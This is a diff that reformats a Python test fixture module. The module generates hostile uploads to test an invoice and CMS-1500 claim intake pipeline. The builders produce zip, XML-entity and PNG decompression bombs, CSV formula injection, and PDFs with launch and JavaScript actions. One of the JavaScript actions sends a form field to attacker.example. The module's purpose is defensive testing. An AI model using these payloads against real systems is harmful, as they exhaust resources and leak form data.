@@ -49,14 +49,15 @@ class HostileCase:
     name: str
     filename: str
     build: Callable[[], bytes]
-    code: str                 # the error (or note) intake must record
-    refused: bool = True      # quarantined, provider notified; False: read, the problem neutralised
-    note: str | None = None   # for accepted files: text that must appear in the recorded notes
-    needs_ocr: bool = False   # the reader OCRs a page (slower; needs tesseract)
+    code: str  # the error (or note) intake must record
+    refused: bool = True  # quarantined, provider notified; False: read, the problem neutralised
+    note: str | None = None  # for accepted files: text that must appear in the recorded notes
+    needs_ocr: bool = False  # the reader OCRs a page (slower; needs tesseract)
     why: str = ""
 
 
 # ---- spreadsheets -----------------------------------------------------------------------------
+
 
 @cache
 def good_invoice_xlsx() -> bytes:
@@ -82,15 +83,16 @@ def rewrite_zip(data: bytes, change: Callable[[str, bytes], bytes | None]) -> by
 
 def xlsx_zip_bomb() -> bytes:
     """The first worksheet padded with 64 MiB of whitespace: ~70 KiB zipped, a ratio near 1000x."""
+
     def pad(name: str, data: bytes) -> bytes:
         return data + b" " * (64 << 20) if name == "xl/worksheets/sheet1.xml" else data
+
     return rewrite_zip(good_invoice_xlsx(), pad)
 
 
 def xlsx_entity_expansion() -> bytes:
     """'Billion laughs': a DTD in the styles part whose entities expand to gigabytes."""
-    laughs = [b'<!ENTITY lol0 "lol">'] + [
-        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">'.encode() for i in range(1, 10)]
+    laughs = [b'<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">'.encode() for i in range(1, 10)]
     prolog = b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE lolz [' + b"".join(laughs) + b"]>\n"
 
     def poison(name: str, data: bytes) -> bytes:
@@ -98,6 +100,7 @@ def xlsx_entity_expansion() -> bytes:
             return data
         body = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", data)
         return prolog + body.replace(b"</styleSheet>", b"<x>&lol9;</x></styleSheet>")
+
     return rewrite_zip(good_invoice_xlsx(), poison)
 
 
@@ -107,8 +110,14 @@ def xlsm_with_macros() -> bytes:
 
 def xlsx_encrypted() -> bytes:
     """What Excel saves for a password-protected .xlsx: an OLE2 file holding an EncryptedPackage stream."""
-    return (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "EncryptionInfo".encode("utf-16-le")
-            + b"\x00" * 64 + "EncryptedPackage".encode("utf-16-le") + bytes(range(256)) * 16)
+    return (
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+        + b"\x00" * 504
+        + "EncryptionInfo".encode("utf-16-le")
+        + b"\x00" * 64
+        + "EncryptedPackage".encode("utf-16-le")
+        + bytes(range(256)) * 16
+    )
 
 
 def csv_formula_injection() -> bytes:
@@ -122,7 +131,8 @@ def csv_formula_injection() -> bytes:
     buffer = io.StringIO(newline="")
     csv.writer(buffer, lineterminator="\r\n").writerows(
         ["" if value is None else value for value in row]
-        for row in invoice_rows(claims, LAYOUTS["dhcs_template"], text_only=True))
+        for row in invoice_rows(claims, LAYOUTS["dhcs_template"], text_only=True)
+    )
     return buffer.getvalue().encode("utf-8")
 
 
@@ -150,12 +160,17 @@ def csv_million_rows() -> bytes:
 def xlsx_million_rows() -> bytes:
     """A worksheet of 1,000,000 real rows (a few MB zipped), declared in its <dimension>."""
     rows = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>' for r in range(1, 1_000_001))
-    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
-             f'spreadsheetml/2006/main"><dimension ref="A1:A1000000"/><sheetData>{rows}</sheetData></worksheet>')
-    return rewrite_zip(good_invoice_xlsx(), lambda name, data: sheet.encode() if name == "xl/worksheets/sheet1.xml" else data)
+    sheet = (
+        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
+        f'spreadsheetml/2006/main"><dimension ref="A1:A1000000"/><sheetData>{rows}</sheetData></worksheet>'
+    )
+    return rewrite_zip(
+        good_invoice_xlsx(), lambda name, data: sheet.encode() if name == "xl/worksheets/sheet1.xml" else data
+    )
 
 
 # ---- PDFs -------------------------------------------------------------------------------------
+
 
 def _text_pdf(lines: list[str], pages: int = 1) -> bytes:
     from reportlab.lib.pagesizes import letter
@@ -216,10 +231,14 @@ def pdf_javascript() -> bytes:
     from pypdf.generic import DictionaryObject, NameObject, TextStringObject
 
     writer = _writer_with_a_page()
-    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
-        NameObject("/S"): NameObject("/JavaScript"),
-        NameObject("/JS"): TextStringObject('app.launchURL("http://attacker.example/?" + this.getField("1a").value);'),
-    })
+    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
+        {
+            NameObject("/S"): NameObject("/JavaScript"),
+            NameObject("/JS"): TextStringObject(
+                'app.launchURL("http://attacker.example/?" + this.getField("1a").value);'
+            ),
+        }
+    )
     return _written(writer)
 
 
@@ -231,13 +250,21 @@ def pdf_embedded_file() -> bytes:
 
 def pdf_not_a_cms1500() -> bytes:
     """A letter, not a claim form: text lines and no CMS-1500 ruling."""
-    lines = ["Dear Claims Department,", "", "Please find our invoice for March services below.",
-             "We served 14 members under Enhanced Care Management this month.",
-             "Contact our billing office with any questions.", "", "Sincerely,", "Billing Office"]
+    lines = [
+        "Dear Claims Department,",
+        "",
+        "Please find our invoice for March services below.",
+        "We served 14 members under Enhanced Care Management this month.",
+        "Contact our billing office with any questions.",
+        "",
+        "Sincerely,",
+        "Billing Office",
+    ]
     return _text_pdf(lines * 3)
 
 
 # ---- images -----------------------------------------------------------------------------------
+
 
 def _png_chunk(kind: bytes, body: bytes) -> bytes:
     return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
@@ -252,8 +279,12 @@ def png_decompression_bomb(side: int = 30_000) -> bytes:
     parts.append(compressor.compress(row * (side % 256)))
     parts.append(compressor.flush())
     header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
-    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", b"".join(parts))
-            + _png_chunk(b"IEND", b""))
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + _png_chunk(b"IHDR", header)
+        + _png_chunk(b"IDAT", b"".join(parts))
+        + _png_chunk(b"IEND", b"")
+    )
 
 
 def tiff_200_pages() -> bytes:
@@ -272,6 +303,7 @@ def png_truncated() -> bytes:
 
 
 # ---- CMS-1500 scans (need OCR) -----------------------------------------------------------------
+
 
 def _scan_pdf(image: Image.Image) -> bytes:
     buffer = io.BytesIO()
@@ -300,6 +332,7 @@ def upside_down_cms1500() -> bytes:
 
 # ---- round two: the probe's memory, shape and action cases --------------------------------------
 
+
 def _with_sheet_cell(reference: str) -> bytes:
     """The good invoice with one extra cell (a number) at `reference`, in a row of its own at the end."""
     row = int("".join(ch for ch in reference if ch.isdigit()))
@@ -309,6 +342,7 @@ def _with_sheet_cell(reference: str) -> bytes:
             return data
         cell = f'<row r="{row}"><c r="{reference}"><v>1</v></c></row>'.encode()
         return data.replace(b"</sheetData>", cell + b"</sheetData>")
+
     return rewrite_zip(good_invoice_xlsx(), add)
 
 
@@ -329,8 +363,12 @@ def _png(width: int, height: int) -> bytes:
     parts = [compressor.compress(row * min(4096, height - start)) for start in range(0, height, 4096)]
     parts.append(compressor.flush())
     header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
-    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", b"".join(parts))
-            + _png_chunk(b"IEND", b""))
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + _png_chunk(b"IHDR", header)
+        + _png_chunk(b"IDAT", b"".join(parts))
+        + _png_chunk(b"IEND", b"")
+    )
 
 
 def png_strip() -> bytes:
@@ -369,14 +407,23 @@ def _with_action(place: str, action: dict) -> bytes:
     elif place == "page":
         page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action_object})
     elif place == "link":
-        link = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
-                                 NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (72, 72, 300, 100)]),
-                                 NameObject("/A"): action_object})
+        link = DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/Annot"),
+                NameObject("/Subtype"): NameObject("/Link"),
+                NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (72, 72, 300, 100)]),
+                NameObject("/A"): action_object,
+            }
+        )
         page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
     elif place == "chain":  # a harmless first action whose /Next runs the payload
-        first = DictionaryObject({NameObject("/S"): NameObject("/GoTo"),
-                                  NameObject("/D"): ArrayObject([page.indirect_reference, NameObject("/Fit")]),
-                                  NameObject("/Next"): action_object})
+        first = DictionaryObject(
+            {
+                NameObject("/S"): NameObject("/GoTo"),
+                NameObject("/D"): ArrayObject([page.indirect_reference, NameObject("/Fit")]),
+                NameObject("/Next"): action_object,
+            }
+        )
         writer._root_object[NameObject("/OpenAction")] = writer._add_object(first)
     return _written(writer)
 
@@ -431,71 +478,150 @@ def csv_mixed_encoding() -> bytes:
 
 # ---- other files ------------------------------------------------------------------------------
 
+
 def unknown_type() -> bytes:
     """An ELF executable header followed by padding: no kind intake reads."""
     return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + bytes(range(256)) * 8
 
 
-CASES: dict[str, HostileCase] = {case.name: case for case in [
-    HostileCase("empty_file", "invoice.xlsx", lambda: b"", "empty_file", why="0 bytes"),
-    HostileCase("wrong_extension", "invoice.pdf", good_invoice_xlsx, "wrong_extension",
-                why="an .xlsx workbook named .pdf"),
-    HostileCase("unknown_type", "claims.bin", unknown_type, "unsupported_type", why="an executable"),
-    HostileCase("pdf_truncated", "claim.pdf", pdf_truncated, "pdf_corrupt", why="a PDF cut off at a third"),
-    HostileCase("pdf_garbage", "claim.pdf", pdf_garbage, "pdf_corrupt", why="a PDF header over noise"),
-    HostileCase("pdf_encrypted", "claim.pdf", pdf_encrypted, "pdf_encrypted", why="AES-256, user password"),
-    HostileCase("pdf_500_pages", "claims.pdf", pdf_500_pages, "too_many_pages", why="500 pages"),
-    HostileCase("pdf_javascript", "claim.pdf", pdf_javascript, "pdf_javascript", why="document JavaScript"),
-    HostileCase("pdf_embedded_file", "claim.pdf", pdf_embedded_file, "pdf_embedded_files",
-                why="an embedded .exe"),
-    HostileCase("image_bomb", "claim.png", png_decompression_bomb, "image_too_large",
-                why="900-megapixel PNG in ~110 KB"),
-    HostileCase("image_truncated", "claim.png", png_truncated, "image_corrupt", why="a PNG cut off"),
-    HostileCase("tiff_200_pages", "claims.tif", tiff_200_pages, "too_many_pages", why="200 fax pages"),
-    HostileCase("xlsx_zip_bomb", "invoice.xlsx", xlsx_zip_bomb, "zip_bomb", why="64 MiB of XML in ~70 KiB"),
-    HostileCase("xlsx_entity_expansion", "invoice.xlsx", xlsx_entity_expansion, "xml_entities",
-                why="billion laughs DTD"),
-    HostileCase("xlsx_encrypted", "invoice.xlsx", xlsx_encrypted, "encrypted_workbook",
-                why="password-protected workbook"),
-    HostileCase("csv_million_rows", "invoice.csv", csv_million_rows, "too_many_rows", why="1,000,000 rows"),
-    HostileCase("xlsx_million_rows", "invoice.xlsx", xlsx_million_rows, "too_many_rows",
-                why="1,000,000 rows"),
-    HostileCase("not_cms1500", "claim.pdf", pdf_not_a_cms1500, "not_cms1500", needs_ocr=True,
-                why="a letter, not a claim form"),
-    HostileCase("blank_cms1500", "claim.pdf", blank_cms1500, "no_data", needs_ocr=True,
-                why="a CMS-1500 with nothing filled in"),
-    HostileCase("xlsx_far_cell", "invoice.xlsx", xlsx_far_cell, "too_many_columns",
-                why="one stray cell at XFD20000"),
-    HostileCase("xlsx_wide_area", "invoice.xlsx", xlsx_wide_area, "too_many_cells",
-                why="one stray cell at GR19000"),
-    HostileCase("png_strip", "claim.png", png_strip, "page_size", why="20000 x 20 pixels"),
-    HostileCase("png_line", "claim.png", png_line, "page_size", why="1 x 39,999,999 pixels"),
-    HostileCase("pdf_huge_page", "claim.pdf", pdf_huge_page, "page_size", why="a 200 x 200 inch page"),
-    HostileCase("pdf_launch", "claim.pdf", pdf_launch, "pdf_action", why="an /OpenAction /Launch"),
-    HostileCase("pdf_page_javascript", "claim.pdf", pdf_page_javascript, "pdf_javascript",
-                why="a page-open JavaScript action"),
-    HostileCase("pdf_link_javascript", "claim.pdf", pdf_link_javascript, "pdf_javascript",
-                why="a link running JavaScript"),
-    HostileCase("pdf_javascript_chain", "claim.pdf", pdf_javascript_chain, "pdf_javascript",
-                why="a GoTo /OpenAction whose /Next is JavaScript"),
-    HostileCase("csv_named_exe", "invoice.exe", csv_named_exe, "wrong_extension", why="a CSV named .exe"),
-    HostileCase("csv_nul_late", "invoice.csv", csv_nul_late, "binary_content", why="a NUL byte at 70 KB"),
-    HostileCase("pdf_owner_password", "claim.pdf", pdf_owner_password_only, "not_cms1500", needs_ocr=True,
-                why="an owner password only: read (a letter, so no claim), not refused as encrypted"),
-    # Read, with the danger neutralised and a note recorded (not quarantined):
-    HostileCase("csv_mixed_encoding", "invoice.csv", csv_mixed_encoding, "mixed_encoding", refused=False,
-                note="Windows-1252 on line", why="UTF-8 with one cp1252 row"),
-    HostileCase("xlsm_macros", "invoice.xlsm", xlsm_with_macros, "macros_ignored", refused=False,
-                note="macros never run", why="an Auto_Open VBA project"),
-    HostileCase("csv_formula_injection", "invoice.csv", csv_formula_injection, "formula_text", refused=False,
-                why="cells starting with = + - @"),
-    HostileCase("csv_cp1252", "invoice.csv", csv_cp1252, "not_utf8", refused=False,
-                note="read as cp1252", why="Windows-1252 bytes"),
-    HostileCase("csv_utf16", "invoice.csv", csv_utf16, "not_utf8", refused=False,
-                note="read as utf-16", why="Excel Unicode Text"),
-    HostileCase("upside_down", "claim.pdf", upside_down_cms1500, "upside_down", refused=False, needs_ocr=True,
-                note="upside down", why="scanned upside down"),
-]}
+CASES: dict[str, HostileCase] = {
+    case.name: case
+    for case in [
+        HostileCase("empty_file", "invoice.xlsx", lambda: b"", "empty_file", why="0 bytes"),
+        HostileCase(
+            "wrong_extension", "invoice.pdf", good_invoice_xlsx, "wrong_extension", why="an .xlsx workbook named .pdf"
+        ),
+        HostileCase("unknown_type", "claims.bin", unknown_type, "unsupported_type", why="an executable"),
+        HostileCase("pdf_truncated", "claim.pdf", pdf_truncated, "pdf_corrupt", why="a PDF cut off at a third"),
+        HostileCase("pdf_garbage", "claim.pdf", pdf_garbage, "pdf_corrupt", why="a PDF header over noise"),
+        HostileCase("pdf_encrypted", "claim.pdf", pdf_encrypted, "pdf_encrypted", why="AES-256, user password"),
+        HostileCase("pdf_500_pages", "claims.pdf", pdf_500_pages, "too_many_pages", why="500 pages"),
+        HostileCase("pdf_javascript", "claim.pdf", pdf_javascript, "pdf_javascript", why="document JavaScript"),
+        HostileCase("pdf_embedded_file", "claim.pdf", pdf_embedded_file, "pdf_embedded_files", why="an embedded .exe"),
+        HostileCase(
+            "image_bomb", "claim.png", png_decompression_bomb, "image_too_large", why="900-megapixel PNG in ~110 KB"
+        ),
+        HostileCase("image_truncated", "claim.png", png_truncated, "image_corrupt", why="a PNG cut off"),
+        HostileCase("tiff_200_pages", "claims.tif", tiff_200_pages, "too_many_pages", why="200 fax pages"),
+        HostileCase("xlsx_zip_bomb", "invoice.xlsx", xlsx_zip_bomb, "zip_bomb", why="64 MiB of XML in ~70 KiB"),
+        HostileCase(
+            "xlsx_entity_expansion", "invoice.xlsx", xlsx_entity_expansion, "xml_entities", why="billion laughs DTD"
+        ),
+        HostileCase(
+            "xlsx_encrypted", "invoice.xlsx", xlsx_encrypted, "encrypted_workbook", why="password-protected workbook"
+        ),
+        HostileCase("csv_million_rows", "invoice.csv", csv_million_rows, "too_many_rows", why="1,000,000 rows"),
+        HostileCase("xlsx_million_rows", "invoice.xlsx", xlsx_million_rows, "too_many_rows", why="1,000,000 rows"),
+        HostileCase(
+            "not_cms1500",
+            "claim.pdf",
+            pdf_not_a_cms1500,
+            "not_cms1500",
+            needs_ocr=True,
+            why="a letter, not a claim form",
+        ),
+        HostileCase(
+            "blank_cms1500",
+            "claim.pdf",
+            blank_cms1500,
+            "no_data",
+            needs_ocr=True,
+            why="a CMS-1500 with nothing filled in",
+        ),
+        HostileCase(
+            "xlsx_far_cell", "invoice.xlsx", xlsx_far_cell, "too_many_columns", why="one stray cell at XFD20000"
+        ),
+        HostileCase(
+            "xlsx_wide_area", "invoice.xlsx", xlsx_wide_area, "too_many_cells", why="one stray cell at GR19000"
+        ),
+        HostileCase("png_strip", "claim.png", png_strip, "page_size", why="20000 x 20 pixels"),
+        HostileCase("png_line", "claim.png", png_line, "page_size", why="1 x 39,999,999 pixels"),
+        HostileCase("pdf_huge_page", "claim.pdf", pdf_huge_page, "page_size", why="a 200 x 200 inch page"),
+        HostileCase("pdf_launch", "claim.pdf", pdf_launch, "pdf_action", why="an /OpenAction /Launch"),
+        HostileCase(
+            "pdf_page_javascript",
+            "claim.pdf",
+            pdf_page_javascript,
+            "pdf_javascript",
+            why="a page-open JavaScript action",
+        ),
+        HostileCase(
+            "pdf_link_javascript", "claim.pdf", pdf_link_javascript, "pdf_javascript", why="a link running JavaScript"
+        ),
+        HostileCase(
+            "pdf_javascript_chain",
+            "claim.pdf",
+            pdf_javascript_chain,
+            "pdf_javascript",
+            why="a GoTo /OpenAction whose /Next is JavaScript",
+        ),
+        HostileCase("csv_named_exe", "invoice.exe", csv_named_exe, "wrong_extension", why="a CSV named .exe"),
+        HostileCase("csv_nul_late", "invoice.csv", csv_nul_late, "binary_content", why="a NUL byte at 70 KB"),
+        HostileCase(
+            "pdf_owner_password",
+            "claim.pdf",
+            pdf_owner_password_only,
+            "not_cms1500",
+            needs_ocr=True,
+            why="an owner password only: read (a letter, so no claim), not refused as encrypted",
+        ),
+        # Read, with the danger neutralised and a note recorded (not quarantined):
+        HostileCase(
+            "csv_mixed_encoding",
+            "invoice.csv",
+            csv_mixed_encoding,
+            "mixed_encoding",
+            refused=False,
+            note="Windows-1252 on line",
+            why="UTF-8 with one cp1252 row",
+        ),
+        HostileCase(
+            "xlsm_macros",
+            "invoice.xlsm",
+            xlsm_with_macros,
+            "macros_ignored",
+            refused=False,
+            note="macros never run",
+            why="an Auto_Open VBA project",
+        ),
+        HostileCase(
+            "csv_formula_injection",
+            "invoice.csv",
+            csv_formula_injection,
+            "formula_text",
+            refused=False,
+            why="cells starting with = + - @",
+        ),
+        HostileCase(
+            "csv_cp1252",
+            "invoice.csv",
+            csv_cp1252,
+            "not_utf8",
+            refused=False,
+            note="read as cp1252",
+            why="Windows-1252 bytes",
+        ),
+        HostileCase(
+            "csv_utf16",
+            "invoice.csv",
+            csv_utf16,
+            "not_utf8",
+            refused=False,
+            note="read as utf-16",
+            why="Excel Unicode Text",
+        ),
+        HostileCase(
+            "upside_down",
+            "claim.pdf",
+            upside_down_cms1500,
+            "upside_down",
+            refused=False,
+            needs_ocr=True,
+            note="upside down",
+            why="scanned upside down",
+        ),
+    ]
+}
 
 
 def main(argv: list[str] | None = None) -> None:
